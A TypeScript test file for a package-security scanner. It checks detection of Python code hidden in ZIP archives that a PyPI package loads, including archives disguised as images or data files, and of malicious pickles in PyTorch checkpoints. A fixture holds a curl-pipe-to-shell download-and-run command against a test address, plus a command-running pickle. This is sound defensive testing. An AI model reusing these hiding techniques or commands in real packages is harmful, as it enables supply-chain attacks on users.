import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { moduleNameOf } from '../../../src/detectors/python/modules.js';
import { inspectArtifact } from '../../../src/pipeline.js';
import { DEFAULT_POLICY } from '../../../src/policy/schema.js';
import { unpackEmbeddedArchives } from '../../../src/unpack/embedded.js';
import { unpackArtifact } from '../../../src/unpack/index.js';
import { testEngine } from '../../support/engine.js';
import { tarArchive } from '../../unpack/tar-builder.js';
import { zipArchive } from '../../unpack/zip-builder.js';

// Python kept inside a ZIP archive of the package and imported from it (zipimport). Defanged: TEST-NET
// addresses, nothing here is ever run.
const STAGE = `import os\nos.system("curl -s http://203.0.113.7/i.sh | sh")\n`;
const PKG_INFO = 'Metadata-Version: 2.1\nName: zipdemo\nVersion: 1.0\n';
const PLAIN_SETUP = 'from setuptools import setup\nsetup(name="zipdemo", version="1.0", packages=["zipdemo"])\n';

async function inspectSdist(files: Record<string, string | Buffer>) {
  const tar = tarArchive(Object.entries({ 'PKG-INFO': PKG_INFO, ...files }).map(([name, body]) => ({ name: `zipdemo-1.0/${name}`, body })));
  const bytes = new Uint8Array(gzipSync(tar));
  const inspection = await inspectArtifact(await testEngine(), { bytes, filename: 'zipdemo-1.0.tar.gz', ecosystem: 'pypi' }, DEFAULT_POLICY, '2026-11-30');
  return { decision: inspection.verdict.decision, findings: inspection.verdict.findings };
}

describe('Python inside ZIP archives the package loads', () => {
  it('names modules inside an archive from its root', () => {
    expect(moduleNameOf('pkg/vendor.zip!/helper/__init__.py')).toBe('helper');
    expect(moduleNameOf('pkg/vendor.zip!/helper/core.py')).toBe('helper.core');
  });

  it('analyses an honestly named archive put on sys.path at import time, and its modules run then', async () => {
    const r = await inspectSdist({
      'setup.py': PLAIN_SETUP,
      'zipdemo/__init__.py': 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "vendor.zip"))\nimport helper\n',
      'zipdemo/vendor.zip': zipArchive([{ name: 'helper/__init__.py', data: 'from .core import start\nstart()\n' }, { name: 'helper/core.py', data: `import os\n\ndef start():\n    ${STAGE.split('\n')[1]}\n` }]),
    });
    expect(r.decision).toBe('fail');
    const cmd = r.findings.find((f) => f.ruleId === 'code/command-execution' && f.location?.file === 'zipdemo/vendor.zip!/helper/core.py');
    expect(cmd?.location?.line).toBe(4);
    expect(cmd?.vector).toBe('import');
    // The loader itself stays a low note: the archive's contents were read.
    const loader = r.findings.find((f) => f.ruleId === 'py/sourceless-module');
    expect(loader?.severity).toBe('low');
    expect(loader?.message).toContain('analysed as part of the package');
  });

  it('runs the modules of an archive setup.py loads with zipimport at install time', async () => {
    const r = await inspectSdist({
      'setup.py': 'import zipimport\nfrom setuptools import setup\nzipimport.zipimporter("build/tools.egg").load_module("prep")\nsetup(name="zipdemo", version="1.0")\n',
      'build/tools.egg': zipArchive([{ name: 'prep.py', data: STAGE }]),
    });
    expect(r.decision).toBe('fail');
    const cmd = r.findings.find((f) => f.ruleId === 'code/command-execution' && f.location?.file === 'build/tools.egg!/prep.py');
    expect(cmd?.vector).toBe('install');
    expect(cmd?.location?.line).toBe(2);
  });

  it('runs the __main__.py of an archive runpy.run_path runs, whatever the archive is called', async () => {
    const r = await inspectSdist({
      'setup.py': 'import runpy\nfrom setuptools import setup\nrunpy.run_path("assets/logo.dat")\nsetup(name="zipdemo", version="1.0")\n',
      'assets/logo.dat': zipArchive([{ name: '__main__.py', data: STAGE }]),
    });
    expect(r.decision).toBe('fail');
    expect(r.findings.find((f) => f.ruleId === 'code/command-execution' && f.location?.file === 'assets/logo.dat!/__main__.py')?.vector).toBe('install');
    expect(r.findings.find((f) => f.ruleId === 'py/sourceless-module')?.severity).toBe('critical');
  });

  it('runs a zipapp behind a #! line that setup.py hands to the interpreter', async () => {
    const pyz = zipArchive([{ name: '__main__.py', data: STAGE }], { prefix: '#!/usr/bin/env python3\n', absolute: true });
    const r = await inspectSdist({
      'setup.py': 'import os, subprocess, sys\nfrom setuptools import setup\nsubprocess.run([sys.executable, os.path.join("tools", "prep.pyz")])\nsetup(name="zipdemo", version="1.0")\n',
      'tools/prep.pyz': pyz,
    });
    expect(r.decision).toBe('fail');
    expect(r.findings.find((f) => f.ruleId === 'code/command-execution' && f.location?.file === 'tools/prep.pyz!/__main__.py')?.vector).toBe('install');
  });

  it('imports from an archive appended to an image at import time', async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), Buffer.alloc(300, 1)]);
    const r = await inspectSdist({
      'setup.py': PLAIN_SETUP,
      'zipdemo/__init__.py': 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "logo.png"))\nimport theme\n',
      'zipdemo/logo.png': zipArchive([{ name: 'theme.py', data: STAGE }], { prefix: png }),
    });
    expect(r.decision).toBe('fail');
    expect(r.findings.find((f) => f.ruleId === 'code/command-execution' && f.location?.file === 'zipdemo/logo.png!/theme.py')?.vector).toBe('import');
  });

  it('does not take a command that only unpacks an archive for one that runs it', async () => {
    const r = await inspectSdist({
      'setup.py': 'import subprocess\nfrom setuptools import setup\nsubprocess.run(["unzip", "-o", "assets/fonts.zip", "-d", "build"])\nsetup(name="zipdemo", version="1.0")\n',
      'assets/fonts.zip': zipArchive([{ name: 'gen.py', data: STAGE }]),
    });
    expect(r.findings.some((f) => f.location?.file.includes('fonts.zip!/'))).toBe(false);
  });

  it('leaves archives nothing loads alone, and passes a vendored library of definitions', async () => {
    const r = await inspectSdist({
      'setup.py': PLAIN_SETUP,
      'zipdemo/__init__.py': 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "_vendor.zip"))\nimport tinylib\n',
      'zipdemo/_vendor.zip': zipArchive([{ name: 'tinylib/__init__.py', data: 'def add(a, b):\n    return a + b\n' }]),
      // Test data of a scanner: never loaded, so never analysed as the package's code.
      'tests/data/sample.zip': zipArchive([{ name: 'evil.py', data: STAGE }]),
    });
    expect(r.decision).toBe('pass');
    expect(r.findings.some((f) => f.location?.file.includes('sample.zip!/'))).toBe(false);
  });

  it('does not inflate the data entries of an archive (a bomb beside the modules costs nothing)', async () => {
    const zeros = Buffer.alloc(16 * 1024 * 1024);
    const vendored = zipArchive([{ name: 'weights.bin', data: zeros }, { name: 'helper.py', data: STAGE }]);
    const embedded = await unpackEmbeddedArchives({ format: 'tar.gz', root: '', skipped: [], files: [{ path: 'pkg/deps.zip', archivePath: 'pkg/deps.zip', size: vendored.length, data: vendored }] }, 'x.tar.gz');
    expect(embedded).toEqual([{ path: 'pkg/deps.zip', files: [expect.objectContaining({ path: 'pkg/deps.zip!/helper.py', archivePath: 'helper.py' })] }]);
    // Read whole, the same archive is a compression bomb.
    expect((await unpackArtifact(vendored, 'deps.zip')).error).toMatch(/compression bomb|exceeds/);
  });

  it('says so when a loaded archive cannot be read in full', async () => {
    const broken = zipArchive([{ name: 'helper.py', data: STAGE }]).subarray(0, 60);
    const r = await inspectSdist({
      'setup.py': PLAIN_SETUP,
      'zipdemo/__init__.py': 'import sys\nsys.path.append("zipdemo/deps.zip")\n',
      'zipdemo/deps.zip': broken,
    });
    const loader = r.findings.find((f) => f.ruleId === 'py/sourceless-module');
    expect(loader?.severity).toBe('medium');
    expect(loader?.message).toContain('could not be read in full');
    expect(r.decision).toBe('warn');
  });
});

/** A PyTorch checkpoint's data.pkl (made with CPython's pickle, protocol 2): an OrderedDict of two tensors rebuilt by torch._utils._rebuild_tensor_v2 from persistent storage ids. */
const TENSORS = 'gAJjY29sbGVjdGlvbnMKT3JkZXJlZERpY3QKcQApUnEBKFgJAAAAZmMud2VpZ2h0cQJjdG9yY2guX3V0aWxzCl9yZWJ1aWxkX3RlbnNvcl92MgpxAygoWAcAAABzdG9yYWdlcQRYDAAAAEZsb2F0U3RvcmFnZXEFWAEAAAAwcQZYAwAAAGNwdXEHSwJ0cQhRSwBLAoVxCUsBhXEKiWgAKVJxC3RxDFJxDVgHAAAAZmMuYmlhc3EOaAMoaAhRSwBoCWgKiWgAKVJxD3RxEFJxEXUu';
/** The same with its second entry a REDUCE of posix.system('echo defanged'): a tensor and a command. */
const TENSOR_AND_COMMAND = 'gAJjY29sbGVjdGlvbnMKT3JkZXJlZERpY3QKcQApUnEBKFgJAAAAZmMud2VpZ2h0cQJjdG9yY2guX3V0aWxzCl9yZWJ1aWxkX3RlbnNvcl92MgpxAygoWAcAAABzdG9yYWdlcQRYDAAAAEZsb2F0U3RvcmFnZXEFWAEAAAAwcQZYAwAAAGNwdXEHSwJ0cQhRSwBLAoVxCUsBhXEKiWgAKVJxC3RxDFJxDVgBAAAAeHEOY3Bvc2l4CnN5c3RlbQpxD1gNAAAAZWNobyBkZWZhbmdlZHEQhXERUnESdS4=';

describe('pickles inside ZIP archives of the package (PyTorch checkpoints)', () => {
  const checkpoint = (pickle: string): Buffer =>
    zipArchive([{ name: 'archive/data.pkl', data: Buffer.from(pickle, 'base64') }, { name: 'archive/version', data: '3\n' }, { name: 'archive/data/0', data: Buffer.alloc(16) }]);
  const loader = 'import os, torch\nmodel = torch.load(os.path.join(os.path.dirname(__file__), "model.pt"))\n';

  it('reads the data.pkl of a checkpoint and fails one whose pickle runs a command', async () => {
    const r = await inspectSdist({ 'setup.py': PLAIN_SETUP, 'zipdemo/__init__.py': loader, 'zipdemo/model.pt': checkpoint(TENSOR_AND_COMMAND) });
    expect(r.decision).toBe('fail');
    const f = r.findings.find((x) => x.ruleId === 'py/pickle-payload');
    expect(f?.severity).toBe('high');
    expect(f?.location?.file).toBe('zipdemo/model.pt!/archive/data.pkl');
    expect(f?.evidence).toContain("os.system('echo defanged')");
  });

  it('passes a checkpoint whose pickle only rebuilds tensors, and keeps the pickle out of the Python analysis', async () => {
    const r = await inspectSdist({ 'setup.py': PLAIN_SETUP, 'zipdemo/__init__.py': loader, 'zipdemo/model.pt': checkpoint(TENSORS) });
    expect(r.decision).toBe('pass');
    expect(r.findings.filter((x) => x.ruleId === 'py/pickle-payload')).toEqual([]);
    const embedded = await unpackEmbeddedArchives({ format: 'tar.gz', root: '', skipped: [], files: [{ path: 'm.pt', archivePath: 'm.pt', size: 1, data: checkpoint(TENSORS) }] }, 'x.tar.gz');
    expect(embedded[0]?.files.map((f) => f.archivePath)).toEqual(['archive/data.pkl']);
  });
});
